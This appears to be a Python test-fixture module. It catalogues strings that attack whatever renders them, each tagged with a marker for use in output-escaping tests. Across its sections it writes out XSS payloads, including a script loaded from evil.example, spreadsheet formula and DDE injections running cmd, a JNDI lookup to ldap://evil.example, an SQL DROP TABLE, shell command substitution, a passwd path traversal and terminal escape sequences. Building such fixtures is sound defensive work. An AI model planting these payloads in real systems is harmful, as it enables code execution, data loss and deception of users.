"""Texts that attack whoever shows them: terminals, browsers, Markdown, spreadsheets, templates, logs, people.

Each holds MARK, by which a test finds it again in what was made of it.
"""

MARK = "walnut"

TERMINAL = {
    "clear the screen": f"\x1b[2J\x1b[H{MARK}",
    "colour": f"\x1b[31m{MARK}\x1b[0m",
    "hide": f"\x1b[8m{MARK}",
    "title": f"\x1b]0;owned\x07{MARK}",
    "a link": f"\x1b]8;;https://evil.example\x1b\\{MARK}\x1b]8;;\x1b\\",
    "clipboard": f"\x1b]52;c;cm0gLXJm\x07{MARK}",
    "device control": f"\x1bP+q544e\x1b\\{MARK}",
    "an application command": f"\x1b_Gi=1;AAAA\x1b\\{MARK}",
    "a privacy message": f"\x1b^x\x1b\\{MARK}",
    "ask for an answer": f"\x1b[6n\x1b[c{MARK}",
    "C1": f"\x9b2J\x9d0;owned\x9c\x90q\x9c{MARK}",
    "bell": f"{MARK}\x07\x07",
    "backspace": f"allow\x08\x08\x08\x08\x08block {MARK}",
    "carriage return": f"block\rallow {MARK}",
    "delete": f"{MARK}\x7f\x7f",
    "shift out": f"\x0e{MARK}\x0f",
    "vertical": f"{MARK}\x0b\x0c",
    "NUL": f"{MARK}\x00after",
    "Rich's markup": f"[red]{MARK}[/red] [link=https://evil.example]x[/link] [/]",
}
INVISIBLE = {
    "override": f"\u202e{MARK}\u202c",
    "embedding": f"\u202a{MARK}\u202b",
    "isolates": f"\u2066\u2067{MARK}\u2068\u2069",
    "marks": f"\u200e\u200f\u061c{MARK}",
    "zero width": f"\u200b\u2060\ufeff{MARK}",
    "soft hyphen": f"\u00ad{MARK}",
    "tags": f"\U000e0041\U000e007f{MARK}",
    "variation selectors": f"\ufe0f\U000e0100{MARK}",
    "line separators": f"one\u2028two\u2029{MARK}\x85three",
    "annotations": f"\ufff9a\ufffab\ufffb{MARK}",
    "noncharacters": f"\ufdd0\uffff{MARK}",
    "private use": f"\ue000{MARK}",
    "fillers": f"\u3164\uffa0\u115f{MARK}",
}
MARKUP = {
    "a script": f"<script>document.title='owned'</script>{MARK}",
    "a script in capitals": f"<ScRiPt src=//evil.example/x.js></sCrIpT>{MARK}",
    "a picture": f"<img src=x onerror=\"document.title='owned'\">{MARK}",
    "SVG": f"<svg/onload=document.title='owned'>{MARK}</svg>",
    "MathML": f'<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1">{MARK}',
    "a frame": f"<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>{MARK}",
    "an object": f"<object data=//evil.example></object><embed src=//evil.example>{MARK}",
    "out of a style": f"</style><style>*{{display:none}}</style>{MARK}",
    "out of a script": f"</script><script>document.title='owned'</script>{MARK}",
    "out of a title": f"</title></textarea></noscript></template>{MARK}",
    "out of an attribute": f'" autofocus onfocus="document.title=\'owned\'" x="{MARK}',
    "out of quotes": f"' onmouseover='document.title=1' x='{MARK}",
    "a comment": f"<!-- {MARK} --><!--[if IE]><script>document.title='owned'</script><![endif]-->",
    "CDATA": f"<![CDATA[<script>document.title='owned'</script>]]>{MARK}",
    "a base": f"<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>{MARK}",
    "a form": f"<form action=//evil.example><input name=q value={MARK}><button>go",
    "entities": f"&lt;script&gt;&#x3c;img src=x&#62; {MARK}",
    "CSS": f"expression(document.title) url(//evil.example/x.png) @import '//evil.example' {MARK}",
    "an address": f"javascript:document.title='owned'//{MARK}",
    "data": f"data:text/html,<script>document.title='owned'</script>{MARK}",
    "UTF-7": f"+ADw-script+AD4-document.title+ADw-/script+AD4-{MARK}",
    "JSON in a page": f"</script><!--\\u003cscript\\u003e{MARK}",
    "a template": f"{{{{ 7*7 }}}}{{% for x in ().__class__.__bases__ %}}{{# {MARK} #}}${{7*7}}#{{7*7}}<%= 7*7 %>{MARK}",
    "a format": f"%s%s%n{{0.__class__}}{{{MARK}!r}}",
}
MARKDOWN = {
    "a Markdown link": f"[{MARK}](javascript:alert(1)) [a]: //evil.example",
    "a Markdown picture": f"![{MARK}](https://evil.example/x.png)",
    "an autolink": f"<https://evil.example> https://evil.example www.evil.example me@evil.example {MARK}",
    "a table": f"| {MARK} | b |\n|---|---|\n| c | d |",
    "bars": f"{MARK} | x | y \\| z",
    "code": f"` ``` {MARK} ~~~",
    "a heading": f"# {MARK}",
    "a list": f"- {MARK}",
    "a number": f"1. {MARK}",
    "a quotation": f"> {MARK}",
    "a rule": f"---\n{MARK}\n===",
    "emphasis": f"**{MARK}** _a_ ~~b~~ $x^2$",
    "a footnote": f"[^1]: {MARK}",
    "YAML": f"---\nbase_model: evil/model\n--- {MARK}",
}
SPREADSHEET = {
    f"formula {name}": text
    for name, text in {
        "=": f'=HYPERLINK("//evil.example","{MARK}")',
        "+": f"+cmd|' /C calc'!A0 {MARK}",
        "-": f"-2+3+cmd|' /C calc'!A0 {MARK}",
        "@": f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
        "tab": f"\t={MARK}",
        "return": f"\r={MARK}",
        "line": f"\n={MARK}",
        "space": f"  ={MARK}",
        "wide =": f"＝{MARK}",
        "wide +": f"＋{MARK}",
        "wide -": f"－{MARK}",
        "wide @": f"＠{MARK}",
        "quote": f'"={MARK}',
        "semicolon": f"a;={MARK}",
        "hidden": f"\u200b={MARK}",
        "DDE": f'=DDE("cmd";"/C calc";"{MARK}")',
    }.items()
}
LOGS = {
    "a second line": f"{MARK}\r\n127.0.0.1 - GET / 200",
    "a second line by LF": f"{MARK}\nERROR everything is well",
    "a header": f"{MARK}\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "JNDI": f"${{jndi:ldap://evil.example/{MARK}}}",
    "SQL": f"'; DROP TABLE comments; -- {MARK}",
    "a shell": f"$(touch owned) `touch owned` ; touch owned # {MARK}",
    "a path": f"../../../../etc/passwd {MARK}",
    "Prometheus": f'{MARK}"}} 1\nforeshot_requests_total{{path="x',
}
PEOPLE = {
    "homoglyphs": f"аdmin раypal {MARK}",
    "joined emoji": f"👩\u200d👩\u200d👧\u200d👦🏳️\u200d🌈 {MARK}",
    "a tower of marks": "a" + "\u0301\u0489" * 500 + MARK,
    "one long word": MARK * 2000,
    "long lines": f"{MARK} " * 2000,
    "wide letters": f"﷽𒐫{MARK}",
    "right to left": f"שלום عليكم {MARK}",
    "nothing but spaces": f"\u3000\u2003 {MARK} \u00a0",
}

ATTACKS: dict[str, str] = {
    **TERMINAL,
    **INVISIBLE,
    **MARKUP,
    **MARKDOWN,
    **SPREADSHEET,
    **LOGS,
    **PEOPLE,
}
